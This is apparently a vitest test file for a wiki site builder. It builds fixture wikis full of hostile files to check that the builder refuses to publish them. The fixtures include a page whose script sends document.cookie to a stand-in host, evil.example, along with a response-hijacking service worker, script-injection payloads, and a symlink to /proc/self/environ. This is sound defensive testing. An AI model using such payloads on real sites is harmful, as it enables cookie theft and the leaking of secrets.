// Builds fixture wikis holding hostile files: scriptable assets, files on the site's routes, links out of the content folder.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { buildSite, writeFixture, type BuiltSite } from '../helpers/build-site.ts';

const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]);
const SCRIPT_PAGE = '<!doctype html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';

function allFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)).split(path.sep).join('/'));
}

describe('a wiki with files of unpublished types and links inside the content folder', () => {
  let site: BuiltSite;
  beforeAll(() => {
    const root = writeFixture({
      'wiki.config.yml': 'title: Unsafe fixture\n',
      'content/ops/community.yml': 'name: Ops\n',
      'content/ops/README.md': '# Ops home\n\nSee [[runbook]] and [[guide]].\n',
      'content/ops/runbook.md': '# Runbook\n\n![flow](media/flow.png)\n',
      'content/ops/media/flow.png': PNG,
      'content/ops/media/page.html': SCRIPT_PAGE,
      'content/ops/media/sw.js': 'self.addEventListener("fetch", (e) => e.respondWith(new Response("owned")));',
      'content/ops/media/register.md': '# Register\n\n<script>navigator.serviceWorker.register("sw.js")</script>\n',
      'content/ops/media/feed.xml': '<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></x:html>',
      'content/ops/media/notes.yml': 'a: 1\n',
      'content/search/index.html': '<h1>Not the search page</h1><script>alert(1)</script>',
    });
    symlinkSync('runbook.md', path.join(root, 'content/ops/guide.md'));
    symlinkSync('media', path.join(root, 'content/ops/pictures'));
    execFileSync('mkfifo', [path.join(root, 'content/ops/pipe.md')]);
    site = buildSite(root);
    if (site.status !== 0) throw new Error(`build failed:\n${site.output}`);
  }, 240_000);
  afterAll(() => rmSync(site.root, { recursive: true, force: true }));

  it('copies no HTML, XML, JavaScript or other unlisted file into the site', () => {
    const files = allFiles(site.outDir);
    // ops/media/index.html is the folder's listing page, written by the site (the folder has a page and no README).
    expect(files.filter((f) => f.startsWith('ops/media/'))).toEqual(['ops/media/flow.png', 'ops/media/index.html', 'ops/media/register/index.html']);
    expect(site.html('/ops/media/')).toContain('This folder has no README');
    expect(site.html('/ops/media/')).not.toContain('evil.example');
    expect(files.filter((f) => /\.(js|xml|yml)$/.test(f) && !/^(_astro|pagefind|feeds)\//.test(f))).toEqual([]);
  });

  it('keeps the site\'s own search page', () => {
    expect(site.html('/search/')).not.toContain('Not the search page');
  });

  it('names each file left out, with why, in one list at the end grouped by reason', () => {
    for (const file of ['content/ops/media/page.html', 'content/ops/media/sw.js', 'content/ops/media/feed.xml', 'content/ops/media/notes.yml', 'content/search/index.html']) {
      expect(site.output).toMatch(new RegExp(`^.*  \\d+ .*: (.*, )?${file.replaceAll('.', '\\.')}(,|$| and)`, 'm'));
    }
    expect(site.output).toMatch(/  3 \.html files run script on the site's origin.*: content\/ops\/media\/page\.html, content\/ops\/pictures\/page\.html, content\/search\/index\.html$/m);
    expect(site.output).toMatch(/  2 \.js files run as script.*: content\/ops\/media\/sw\.js, content\/ops\/pictures\/sw\.js$/m);
    expect(site.output).toMatch(/  1 not a regular file \(a FIFO, socket or device\), so it is not read: content\/ops\/pipe\.md$/m);
    // ops/pictures is ops/media, so its files are listed under both names.
    expect(site.output).toMatch(/10 files in the content folder not published/);
    // Once, at the end: not also a warning per file before the build (10,000 such files would bury the rest).
    expect(site.output).not.toContain('content/ops/media/page.html: warning');
  });

  it('builds the good pages, and follows links that stay inside the content folder', () => {
    expect(site.html('/ops/runbook/')).toContain('Runbook');
    expect(site.html('/ops/guide/')).toContain('Runbook');
    expect(site.exists('/ops/pictures/flow.png')).toBe(true);
    expect(readFileSync(path.join(site.outDir, 'ops/media/flow.png'))).toEqual(Buffer.from(PNG));
  });
});

describe('a wiki with links out of the content folder, loops and files on other sources\' paths', () => {
  let site: BuiltSite;
  beforeAll(() => {
    const root = writeFixture({
      'wiki.config.yml': 'title: Unsafe fixture\n',
      'content/ops/community.yml': 'name: Ops\n',
      'content/ops/README.md': '# Ops home\n',
      'content/ops/runbook.md': '# Runbook\n',
      'content/OPS/runbook/index.html': '<h1>Replaced</h1>',
      'content/OPS/runbook/diagram.png': PNG,
      'content/pagefind/pagefind-entry.json': '{"version":"1.6.0","languages":{}}',
      // Linked, so it would be published (an unlinked file in a folder without pages is not).
      'content/docs/README.md': '# Docs\n\n[index](../pagefind/pagefind-entry.json)\n',
    });
    symlinkSync('/proc/self/environ', path.join(root, 'content/docs/environ.md'));
    symlinkSync('..', path.join(root, 'content/docs/loop'));
    symlinkSync('self.md', path.join(root, 'content/docs/self.md'));
    site = buildSite(root);
  }, 240_000);
  afterAll(() => rmSync(site.root, { recursive: true, force: true }));

  it('stops with every problem named, and no stack trace', () => {
    expect(site.status).toBe(1);
    for (const expected of [
      'content/docs/environ.md: error: is a symlink to something outside the content folder',
      'content/docs/loop: error: is a symlink loop (it points to a folder that contains it)',
      'content/docs/self.md: error: is a symlink loop (it leads back to itself)',
      'content/ops: error: the folders content/ops and content/OPS are one community (/ops/)',
      "content/pagefind/pagefind-entry.json: error: content/pagefind/pagefind-entry.json would be published at /pagefind/pagefind-entry.json, inside /pagefind/, which is the site's search index",
    ]) {
      expect(site.output).toContain(expected);
    }
    expect(site.output).not.toMatch(/^\s+at /m);
    expect(site.output).not.toMatch(/ELOOP|PATH=|HOME=/);
  });
});
